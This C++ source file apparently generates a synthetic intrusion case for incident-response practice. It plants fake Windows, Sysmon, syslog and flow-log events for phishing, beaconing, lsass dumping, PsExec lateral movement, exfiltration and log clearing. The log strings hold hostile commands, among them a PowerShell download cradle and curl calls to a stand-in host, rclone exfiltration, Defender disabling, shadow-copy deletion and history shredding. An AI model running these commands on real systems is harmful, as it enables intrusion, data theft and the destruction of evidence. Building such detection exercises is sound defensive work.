// SPDX-License-Identifier: GPL-3.0-or-later
#include "samplecase/Intrusion.h"

#include <array>

namespace tocsin::samplecase {

namespace {

constexpr std::string_view kSecurity = "Security";
constexpr std::string_view kSysmon = "Microsoft-Windows-Sysmon/Operational";
constexpr std::string_view kCmd = R"(C:\Windows\System32\cmd.exe)";
constexpr std::string_view kServices = R"(C:\Windows\System32\services.exe)";
constexpr std::string_view kBeaconHost = "cdn.tidewatch.example";

ProcessFacts start(const Session& session, std::string_view image, std::string commandLine, std::string_view parent, std::string integrity)
{
    ProcessFacts facts;
    facts.session = session;
    facts.image = image;
    facts.commandLine = std::move(commandLine);
    facts.parentImage = parent;
    facts.parentCommandLine = parent;
    facts.integrity = std::move(integrity);
    return facts;
}

void tcp(CaseLogs& logs, Ticks time, std::string_view source, std::string_view target, int port, int seconds, std::string_view group,
         std::string_view rule, bool inbound, std::uint64_t sent, std::uint64_t received)
{
    Flow flow;
    flow.time = time;
    flow.seconds = seconds;
    flow.source = source;
    flow.target = target;
    flow.targetPort = port;
    flow.group = group;
    flow.rule = rule;
    flow.inbound = inbound;
    flow.sentBytes = sent;
    flow.sentPackets = sent / 1100 + 3;
    flow.receivedBytes = received;
    flow.receivedPackets = received / 900 + 3;
    logs.flows.add(flow);
}

Session remoteDesktop(CaseLogs& logs, const Host& host, Ticks time, const Account& account, std::string_view address, std::string_view workstation)
{
    LogonFacts facts;
    facts.session.account = account;
    facts.session.logonId = kIntruderDesktop;
    facts.type = 10;
    facts.process = "User32 ";
    facts.package = "Negotiate";
    facts.workstation = workstation;
    facts.processName = R"(C:\Windows\System32\svchost.exe)";
    facts.address = address;
    facts.elevated = true;
    return logs.windows.logon(host, time, facts);
}

Session network(CaseLogs& logs, const Host& host, Ticks time, const Account& account, std::string_view address, bool elevated)
{
    LogonFacts facts;
    facts.session.account = account;
    facts.address = address;
    facts.elevated = elevated;
    return logs.windows.logon(host, time, facts);
}

} // namespace

void plantWorkstation(CaseLogs& logs)
{
    const Company& company = logs.company;
    const Host& host = company.workstation;
    WindowsLog& windows = logs.windows;
    Random random(logs.seed, "workstation");
    LogonFacts logon;
    logon.session.account = company.victimPerson().account;
    logon.session.logonId = kVictimDesk + 1;
    logon.type = 2;
    logon.process = "User32 ";
    logon.package = "Negotiate";
    logon.workstation = host.name;
    logon.processName = R"(C:\Windows\System32\svchost.exe)";
    logon.address = "127.0.0.1";
    const Session session = windows.logon(host, logs.at(1, 8, 21, 40), logon);

    const ProcessFacts word = windows.process(host, logs.at(1, 8, 31, 52), start(session, R"(C:\Program Files\Microsoft Office\root\Office16\WINWORD.EXE)",
        R"("C:\Program Files\Microsoft Office\root\Office16\WINWORD.EXE" /n "C:\Users\mlindqvist\Downloads\Charter invoice 2026-118.docm")",
        R"(C:\Program Files\Microsoft Office\root\Office16\OUTLOOK.EXE)", "Medium"));
    const std::string script = "$c=New-Object Net.WebClient;IEX $c.DownloadString('https://cdn.tidewatch.example/a/u')";
    const ProcessFacts shell = windows.child(host, logs.at(1, 8, 32, 7), word, std::string(kPowerShell),
                                             "powershell.exe -NoP -NonI -W Hidden -Exec Bypass -EncodedCommand " + encodedCommand(script));
    logs.plant(logs.at(1, 8, 32, 7), Stage::Exploitation, host.name, "Word, opened from a mail, starts hidden PowerShell with an encoded download command.",
               WindowsLog::path(host, kSecurity));
    windows.add(host, logs.at(1, 8, 32, 16), sysmonFileEvent(host, shell, R"(C:\Users\mlindqvist\AppData\Roaming\nwupd\agent.ps1)", logs.at(1, 8, 32, 16)));
    for (Ticks beat = logs.at(1, 8, 32, 12); beat < logs.at(2, 1, 55); beat += random.between(290, 310) * kTicksPerSecond) {
        windows.connection(host, jitter(random, beat), shell, Company::kRelay, kBeaconHost, 443);
        tcp(logs, beat, host.ip, Company::kRelay, 443, 3, "nsg-clients", "DefaultRule_AllowInternetOutBound", false, 2400, 1900);
    }
    logs.plant(logs.at(1, 8, 32, 12), Stage::Exploitation, host.name, "Beacon to " + std::string(Company::kRelay) + " port 443 about every five minutes, until 01:55 of the next night.",
               WindowsLog::path(host, kSysmon));
    const std::string_view cmdPath = kCmd;
    int second = 4;
    for (const std::string_view command : {"whoami /all", "net group \"Domain Admins\" /domain", "nltest /dclist:corp.northwharf.example", "net view /all /domain"}) {
        const ProcessFacts cmd = windows.child(host, logs.at(1, 8, 41, second), shell, std::string(cmdPath), "cmd.exe /c " + std::string(command));
        const std::string tool(command.substr(0, command.find(' ')));
        windows.child(host, logs.at(1, 8, 41, second + 1), cmd, R"(C:\Windows\System32\)" + tool + ".exe", std::string(command));
        second += 12;
    }
    logs.plant(logs.at(1, 8, 41, 4), Stage::Reconnaissance, host.name, "Discovery of the domain: whoami, net group, nltest, net view.", WindowsLog::path(host, kSecurity));
    const Session elevated = shell.session;
    windows.add(host, logs.at(1, 8, 36, 30), taskCreatedEvent(host, elevated, R"(\Microsoft\Windows\NwUpdate\Check)", std::string(kPowerShell),
        R"(-NoP -W Hidden -Exec Bypass -File C:\Users\mlindqvist\AppData\Roaming\nwupd\agent.ps1)"));
    logs.plant(logs.at(1, 8, 36, 30), Stage::Exploitation, host.name, "Hidden scheduled task \\Microsoft\\Windows\\NwUpdate\\Check runs the implant every 15 minutes.",
               WindowsLog::path(host, kSecurity));

    ProcessFacts high = shell;
    high.integrity = "High";
    const ProcessFacts dump = windows.child(host, logs.at(1, 9, 10, 26), high, R"(C:\Users\Public\procdump64.exe)",
                                            R"(procdump64.exe -accepteula -ma lsass.exe C:\Users\Public\ls.dmp)");
    windows.add(host, logs.at(1, 9, 10, 27), sysmonAccessEvent(host, dump, R"(C:\Windows\system32\lsass.exe)", 0x1FFFFF, logs.at(1, 9, 10, 27)));
    windows.add(host, logs.at(1, 9, 10, 29), sysmonFileEvent(host, dump, R"(C:\Users\Public\ls.dmp)", logs.at(1, 9, 10, 29)));
    logs.plant(logs.at(1, 9, 10, 26), Stage::PrivilegeEscalation, host.name, "procdump64 copies the memory of lsass.exe; the administrator's account was cached there.",
               WindowsLog::path(host, kSysmon));
}

void plantLateralMovement(CaseLogs& logs)
{
    const Company& company = logs.company;
    WindowsLog& windows = logs.windows;
    Random random(logs.seed, "lateral");
    const Host& from = company.workstation;
    const Host& mgmt = company.mgmt;
    Session subject;
    subject.account = company.victimPerson().account;
    subject.logonId = kVictimDesk + 1;
    windows.add(from, logs.at(1, 10, 1, 48), explicitLogonEvent(from, subject, company.adminAccount, mgmt.computer, 0x1A2C, R"(C:\Windows\System32\mstsc.exe)"));
    const Session desktop = remoteDesktop(logs, mgmt, logs.at(1, 10, 2, 3), company.adminAccount, from.ip, from.name);
    tcp(logs, logs.at(1, 10, 2, 1), from.ip, mgmt.ip, 3389, 16 * 3600, "nsg-mgmt", "UserRule_allow-rdp-from-clients", true, 38'000'000, 412'000'000);
    logs.plant(logs.at(1, 10, 2, 3), Stage::LateralMovement, "mgmt-vm01", "Remote Desktop logon (type 10) of adm-treyer from wks-0231, where the administrator does not work.",
               WindowsLog::path(mgmt, kSecurity));

    ProcessFacts shell = windows.process(mgmt, logs.at(1, 10, 9, 30), start(desktop, kPowerShell, "powershell.exe -nop -ep bypass", R"(C:\Windows\explorer.exe)", "High"));
    for (int i = 0; i < 240; ++i) {
        Flow flow;
        flow.time = logs.at(1, 10, 12) + i * 900 * kTicksPerMillisecond;
        flow.source = mgmt.ip;
        flow.target = i % 2 == 0 ? company.db.ip : "10.1.3.4";
        flow.targetPort = static_cast<int>(random.between(20, 9500));
        flow.group = i % 2 == 0 ? "nsg-db" : "nsg-au";
        flow.rule = "UserRule_deny-vnet";
        flow.allowed = false;
        logs.flows.add(flow);
    }
    logs.plant(logs.at(1, 10, 12), Stage::Reconnaissance, "mgmt-vm01", "Sweep of ports of the database and authentication subnets, denied by their NSGs.", FlowLog::path("nsg-db"));

    windows.child(mgmt, logs.at(1, 10, 20, 11), shell, R"(C:\Windows\System32\net.exe)", "net user svc_update Harbour!2026 /add");
    windows.add(mgmt, logs.at(1, 10, 20, 12), accountCreatedEvent(mgmt, desktop, company.local));
    windows.add(mgmt, logs.at(1, 10, 20, 12) + 3000, accountEnabledEvent(mgmt, desktop, company.local));
    windows.child(mgmt, logs.at(1, 10, 20, 40), shell, R"(C:\Windows\System32\net.exe)", "net localgroup Administrators svc_update /add");
    windows.add(mgmt, logs.at(1, 10, 20, 41), groupMemberEvent(mgmt, desktop, company.local));
    logs.plant(logs.at(1, 10, 20, 12), Stage::PrivilegeEscalation, "mgmt-vm01", "New local account svc_update, made a member of Administrators within half a minute.",
               WindowsLog::path(mgmt, kSecurity));

    const Session controller = network(logs, company.dc, logs.at(1, 10, 46, 5), company.adminAccount, mgmt.ip, true);
    windows.add(company.dc, logs.at(1, 10, 46, 9), serviceTicketEvent(company.dc, company.adminAccount, "svc-sql", mgmt.ip, 51822, 0x17));
    for (int i = 0; i < 3; ++i)
        windows.add(company.dc, logs.at(1, 10, 47, 2 + i), replicationEvent(company.dc, controller));
    logs.plant(logs.at(1, 10, 46, 5), Stage::LateralMovement, "dc-01", "Network logon (type 3) of adm-treyer on the domain controller from mgmt-vm01.", WindowsLog::path(company.dc, kSecurity));
    logs.plant(logs.at(1, 10, 47, 2), Stage::PrivilegeEscalation, "dc-01", "Directory replication rights used by a person's account (4662): password hashes of the domain are read.",
               WindowsLog::path(company.dc, kSecurity));
    tcp(logs, logs.at(1, 10, 46, 4), mgmt.ip, company.dc.ip, 389, 90, "nsg-dc", "UserRule_allow-domain", true, 61'000, 8'400'000);
}

void plantDatabaseServer(CaseLogs& logs)
{
    const Company& company = logs.company;
    const Host& db = company.db;
    WindowsLog& windows = logs.windows;
    Session subject;
    subject.account = company.adminAccount;
    subject.logonId = kIntruderDesktop;
    ProcessFacts tool = start(subject, R"(C:\Ops\PsExec64.exe)", R"(PsExec64.exe -accepteula \\db-vm01 -s cmd.exe)", kPowerShell, "High");
    tool = windows.process(company.mgmt, logs.at(1, 10, 31, 0), tool);
    windows.add(company.mgmt, logs.at(1, 10, 31, 1), explicitLogonEvent(company.mgmt, subject, company.adminAccount, db.computer, tool.pid, tool.image));
    windows.connection(company.mgmt, logs.at(1, 10, 31, 1), tool, db.ip, db.computer, 445);
    tcp(logs, logs.at(1, 10, 31, 1), company.mgmt.ip, db.ip, 445, 5200, "nsg-db", "UserRule_allow-smb-from-mgmt", true, 1'900'000, 640'000);
    const Session session = network(logs, db, logs.at(1, 10, 31, 2), company.adminAccount, company.mgmt.ip, true);
    windows.add(db, logs.at(1, 10, 31, 2) + 4'000'000, shareFileEvent(db, session, company.mgmt.ip, 50411, R"(\\*\ADMIN$)", "PSEXESVC.exe"));
    windows.add(db, logs.at(1, 10, 31, 3), serviceRegisteredEvent(db, company.adminAccount.sid, "PSEXESVC", R"(%SystemRoot%\PSEXESVC.exe)"));
    windows.add(db, logs.at(1, 10, 31, 3), serviceInstalledEvent(db, session, "PSEXESVC", R"(%SystemRoot%\PSEXESVC.exe)"));
    logs.plant(logs.at(1, 10, 31, 3), Stage::LateralMovement, "db-vm01", "PsExec from mgmt-vm01: service PSEXESVC installed (7045, 4697) after a type 3 logon.",
               WindowsLog::path(db, "System"));
    const Session system{Company::system(db), 0x3E7, {}};
    const ProcessFacts service = windows.process(db, logs.at(1, 10, 31, 4), start(system, R"(C:\Windows\PSEXESVC.exe)", R"(C:\Windows\PSEXESVC.exe)", kServices, "System"));
    const ProcessFacts cmd = windows.child(db, logs.at(1, 10, 31, 5), service, std::string(kCmd), "\"cmd.exe\"");

    const std::string preference = "powershell.exe -Command Set-MpPreference -DisableRealtimeMonitoring $true -DisableIOAVProtection $true";
    windows.child(db, logs.at(1, 22, 15, 2), cmd, std::string(kPowerShell), preference);
    windows.add(db, logs.at(1, 22, 15, 4), defenderDisabledEvent(db));
    logs.plant(logs.at(1, 22, 15, 2), Stage::AntiForensics, "db-vm01", "Real-time protection of Microsoft Defender switched off (event 5001).",
               WindowsLog::path(db, "Microsoft-Windows-Windows Defender/Operational"));
    windows.child(db, logs.at(2, 1, 4, 12), cmd, R"(C:\Program Files\7-Zip\7z.exe)", R"(7z.exe a -t7z -mhe=on -pTidal C:\ProgramData\b.7z E:\Backup\bookings.bak)");
    const ProcessFacts copy = windows.child(db, logs.at(2, 1, 18, 40), cmd, R"(C:\ProgramData\rclone.exe)", R"(rclone.exe copy C:\ProgramData\b.7z out:drop --no-check-certificate)");
    windows.connection(db, logs.at(2, 1, 18, 43), copy, Company::kRelay, kBeaconHost, 443);
    tcp(logs, logs.at(2, 1, 18, 43), db.ip, Company::kRelay, 443, 1860, "nsg-db", "UserRule_allow-any-temp", false, 9'412'000'000, 31'000'000);
    logs.plant(logs.at(2, 1, 4, 12), Stage::Exfiltration, "db-vm01", "The booking database's backup is packed with a password (7z).", WindowsLog::path(db, kSecurity));
    logs.plant(logs.at(2, 1, 18, 43), Stage::Exfiltration, "db-vm01", "9.4 GB leave the database server for " + std::string(Company::kRelay) + " port 443 within half an hour.",
               FlowLog::path("nsg-db"));
}

void plantHostConcealment(CaseLogs& logs)
{
    const Company& company = logs.company;
    WindowsLog& windows = logs.windows;
    const Host& db = company.db;
    const Session system{Company::system(db), 0x3E7, {}};
    const ProcessFacts cmd = start(system, kCmd, "\"cmd.exe\"", R"(C:\Windows\PSEXESVC.exe)", "System");
    windows.child(db, logs.at(2, 2, 5, 10), cmd, R"(C:\Windows\System32\vssadmin.exe)", "vssadmin.exe delete shadows /all /quiet");
    logs.plant(logs.at(2, 2, 5, 10), Stage::AntiForensics, "db-vm01", "Shadow copies deleted with vssadmin.", WindowsLog::path(db, kSecurity));
    int second = 5;
    for (const Host* host : {&db, &company.mgmt}) {
        Session subject;
        subject.account = company.adminAccount;
        subject.logonId = kIntruderDesktop;
        const bool isDb = host == &db;
        ProcessFacts shell = isDb ? cmd : start(subject, kPowerShell, "powershell.exe -nop -ep bypass", R"(C:\Windows\explorer.exe)", "High");
        windows.child(*host, logs.at(2, 2, 8, second), shell, R"(C:\Windows\System32\wevtutil.exe)", "wevtutil.exe cl Security");
        windows.add(*host, logs.at(2, 2, 8, second + 1), securityLogClearedEvent(*host, isDb ? system : subject));
        windows.child(*host, logs.at(2, 2, 8, second + 3), shell, R"(C:\Windows\System32\wevtutil.exe)", "wevtutil.exe cl System");
        windows.add(*host, logs.at(2, 2, 8, second + 4), systemLogClearedEvent(*host, isDb ? system : subject, "System"));
        logs.plant(logs.at(2, 2, 8, second + 1), Stage::AntiForensics, host->name, "Security and System logs cleared (1102, 104). The collector had the events already.",
                   WindowsLog::path(*host, kSecurity));
        second += 25;
    }
}

void plantLinuxServer(CaseLogs& logs)
{
    const std::string_view host = "app-vm01";
    SyslogLog& syslog = logs.syslog;
    const Ticks time = logs.at(1, 11, 20, 3);
    syslog.add(time, host, Facility::AuthPriv, Severity::Info, "sshd", 31877, "Accepted password for deploy from 10.1.5.4 port 52114 ssh2");
    syslog.add(time + 2'000'000, host, Facility::AuthPriv, Severity::Info, "sshd", 31877, "pam_unix(sshd:session): session opened for user deploy(uid=1001) by (uid=0)");
    tcp(logs, time, logs.company.mgmt.ip, "10.1.1.4", 22, 3400, "nsg-app", "UserRule_allow-ssh-from-mgmt", true, 220'000, 460'000);
    logs.plant(time, Stage::LateralMovement, "app-vm01", "SSH logon of deploy with a password from mgmt-vm01; the account otherwise uses a key.", SyslogLog::path(host));
    syslog.add(logs.at(1, 11, 21, 9), host, Facility::AuthPriv, Severity::Notice, "sudo", 31902, "  deploy : TTY=pts/1 ; PWD=/home/deploy ; USER=root ; COMMAND=/bin/bash");
    syslog.add(logs.at(1, 11, 21, 9) + 500'000, host, Facility::AuthPriv, Severity::Info, "sudo", 31902, "pam_unix(sudo:session): session opened for user root(uid=0) by deploy(uid=1001)");
    logs.plant(logs.at(1, 11, 21, 9), Stage::PrivilegeEscalation, "app-vm01", "deploy becomes root with sudo.", SyslogLog::path(host));
    syslog.add(logs.at(1, 11, 24, 51), host, Facility::AuthPriv, Severity::Notice, "sudo", 31955, "    root : TTY=pts/1 ; PWD=/root ; USER=root ; COMMAND=/usr/bin/curl -fsSL https://cdn.tidewatch.example/l -o /usr/local/sbin/nwupd");
    syslog.add(logs.at(1, 11, 25, 20), host, Facility::Cron, Severity::Info, "crontab", 31990, "(root) REPLACE (root)");
    logs.plant(logs.at(1, 11, 25, 20), Stage::Exploitation, "app-vm01", "Root's crontab replaced: the implant /usr/local/sbin/nwupd comes back every hour.", SyslogLog::path(host));
    syslog.add(logs.at(2, 2, 15, 2), host, Facility::AuthPriv, Severity::Notice, "sudo", 44012, "  deploy : TTY=pts/1 ; PWD=/home/deploy ; USER=root ; COMMAND=/usr/bin/systemctl stop auditd");
    syslog.add(logs.at(2, 2, 15, 3), host, Facility::Daemon, Severity::Info, "systemd", 1, "Stopped Security Auditing Service.");
    syslog.add(logs.at(2, 2, 15, 20), host, Facility::AuthPriv, Severity::Notice, "sudo", 44020, "  deploy : TTY=pts/1 ; PWD=/home/deploy ; USER=root ; COMMAND=/usr/bin/shred -u /var/log/auth.log /root/.bash_history");
    logs.plant(logs.at(2, 2, 15, 2), Stage::AntiForensics, "app-vm01", "auditd stopped, auth.log and the shell history shredded.", SyslogLog::path(host));
}

void plantFlood(CaseLogs& logs)
{
    Random random(logs.seed, "flood");
    const Ticks begin = logs.at(1, 23, 0);
    for (int i = 0; i < 2600; ++i) {
        Flow flow;
        flow.time = begin + i * 460 * kTicksPerMillisecond;
        flow.source = "198.19." + std::to_string(random.below(256)) + '.' + std::to_string(random.between(1, 254));
        flow.target = "10.1.1.4";
        flow.sourcePort = static_cast<int>(random.between(1024, 65000));
        flow.targetPort = 443;
        flow.group = "nsg-app";
        flow.rule = "UserRule_allow-https";
        flow.seconds = 60;
        flow.sentPackets = static_cast<std::uint64_t>(random.between(200, 900));
        flow.sentBytes = flow.sentPackets * 60;
        logs.flows.add(flow);
    }
    for (int minute = 1; minute < 20; minute += 2)
        logs.syslog.add(jitter(random, logs.at(1, 23, minute)), "app-vm01", Facility::Kern, Severity::Warning, "kernel", 0,
                        "[" + std::to_string(183500 + minute * 60) + ".118203] TCP: request_sock_TCP: Possible SYN flooding on port 443. Sending cookies.  Check SNMP counters.");
    logs.plant(begin, Stage::DenialOfService, "app-vm01", "SYN flood of the booking site from some 2,600 addresses for 20 minutes, while the data is being copied.",
               FlowLog::path("nsg-app"));
}

} // namespace tocsin::samplecase
